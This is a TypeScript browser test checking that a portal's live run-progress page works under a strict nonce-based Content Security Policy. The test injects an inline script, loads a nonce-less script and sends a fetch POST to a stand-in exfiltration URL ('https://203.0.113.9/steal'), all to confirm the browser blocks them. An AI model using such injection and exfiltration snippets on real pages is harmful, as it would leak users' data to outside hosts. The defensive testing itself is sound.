/**
 * Threat: the run page's live-progress script opening a hole in the strict CSP: scripts allowed by
 * origin ('self') or inline ('unsafe-inline'), so an injected script runs; or an injected script
 * sending what it reads to another origin.
 * Invariant: the served script runs only because its tag carries the response's nonce; an inline
 * script and even a same-origin script without the nonce are refused; scripts may fetch from this
 * server only (`connect-src 'self'`), which is what lets the page follow a run without a reload.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findOrganizationBySlug } from '../../core/db/organizations.ts';
import { releaseRunSlot } from '../../provisioning/data/provisioning-settings.ts';
import { updateHeldRun } from '../../provisioning/data/provisioning-runs.ts';
import { provisioningDeps } from '../../provisioning/runs/run-admin.ts';
import { requestRun } from '../../provisioning/runs/run-service.ts';
import { liveProgressPath } from '../../portal/pages/live-progress.ts';
import { launchChromium } from '../e2e/browser.ts';
import { portalBrowserKit } from '../portal/portal-browser-kit.ts';
import { people, startPortalWorld, type PortalWorld } from '../portal/portal-world.ts';


/** How long a step may take on a busy machine: a bound on waiting, not a timing assertion. */
const patiently = { timeout: 30_000, interval: 100 };
describe('portal live progress under the strict CSP', () => {
  let world: PortalWorld;
  let browser: Browser;
  const cspViolations: string[] = [];
  const { signedInPage } = portalBrowserKit(() => ({ world, browser, cspViolations }));

  beforeAll(async () => {
    world = await startPortalWorld('sqlite');
    browser = await launchChromium();
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await world?.stop();
  });

  /** The page's CSP violations, by directive (Playwright's init script is outside the page's CSP). */
  const violations = (page: Page) => page.evaluate<string[]>('window.__violations.slice()');

  it('loads the served script by nonce, follows the run, and refuses inline, nonce-less and cross-origin scripts', async () => {
    const context = world.lanyard.context;
    const organization = (await findOrganizationBySlug(context.db, 'contoso'))!;
    // This test holds the run and moves it on itself, one step at a time.
    const deps = provisioningDeps(context, 'csp-test-holder');
    const { run } = await requestRun(deps, { organization, kind: 'export', dryRun: true, confirm: false, trigger: 'api', requestedBy: 'api:test' });

    const page = await signedInPage(people.orgAdmin);
    await page.addInitScript('window.__violations = []; document.addEventListener("securitypolicyviolation", (event) => window.__violations.push(event.effectiveDirective));');
    const response = await page.goto(`${world.url}/admin/orgs/contoso/provisioning/runs/${run.id}`);
    const csp = response!.headers()['content-security-policy']!;
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toMatch(/script-src 'nonce-[^']+'(;|$)/);
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|strict-dynamic/);
    // The tag carries the nonce (the browser hides it from the attribute, not from the property).
    expect(await page.evaluate<string>(`document.querySelector('script[src="${liveProgressPath}"]').nonce`)).toMatch(/^[A-Za-z0-9+/]{22}==$/);
    await page.evaluate('window.__sameDocument = true');

    // Step 1: the run reaches its apply phase; the page follows without a reload.
    expect(await updateHeldRun(context.db, run.id, deps.owner, { phase: 'apply', total: 3, processed: 2, counts: '{"created":2}' })).toBe(true);
    // (Polled from the test: waitForFunction would evaluate a string in the page, which this CSP forbids.)
    await expect.poll(() => page.textContent('#run-processed'), patiently).toBe('2');
    expect(await page.textContent('#run-total')).toBe('3');
    expect(await page.textContent('#run-counts')).toContain('created 2');
    expect(await page.textContent('#run-live')).toBe('Run running, phase apply.');
    // Step 2: it completes.
    expect(await updateHeldRun(context.db, run.id, deps.owner, { status: 'completed', phase: 'done', processed: 3, counts: '{"created":3}', finishedAt: new Date().toISOString() })).toBe(true);
    await releaseRunSlot(context.db, organization.id, run.id);
    await expect.poll(() => page.textContent('#run-status'), patiently).toBe('completed');
    expect(await page.isVisible('#run-ended')).toBe(true);
    expect(await page.textContent('#run-live')).toBe('Run completed.');
    expect(await page.evaluate('window.__sameDocument')).toBe(true);
    expect(await violations(page)).toEqual([]);

    // An injected inline script does not run.
    expect(await page.evaluate(`(() => { const s = document.createElement('script'); s.textContent = 'window.__inlineRan = true'; document.body.appendChild(s); return window.__inlineRan === true; })()`)).toBe(false);
    // Nor does this server's own script without the nonce ('self' is not a script source).
    await page.evaluate(`window.__loaded = false; const s = document.createElement('script'); s.src = '${liveProgressPath}'; s.onload = () => { window.__loaded = true; }; document.body.appendChild(s);`);
    // A script may not reach another origin.
    expect(await page.evaluate<string>(`fetch('https://203.0.113.9/steal', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused')`)).toBe('refused');
    await expect.poll(async () => (await violations(page)).length, patiently).toBeGreaterThanOrEqual(3);
    expect(new Set(await violations(page))).toEqual(new Set(['script-src-elem', 'connect-src']));
    expect(await page.evaluate('window.__loaded')).toBe(false);

    // The script itself: JavaScript, cacheable for good (its path changes with its content).
    const asset = await page.request.get(`${world.url}${liveProgressPath}`);
    expect(asset.headers()['content-type']).toMatch(/^application\/javascript/);
    expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
    await page.close();
  }, 60_000);
});
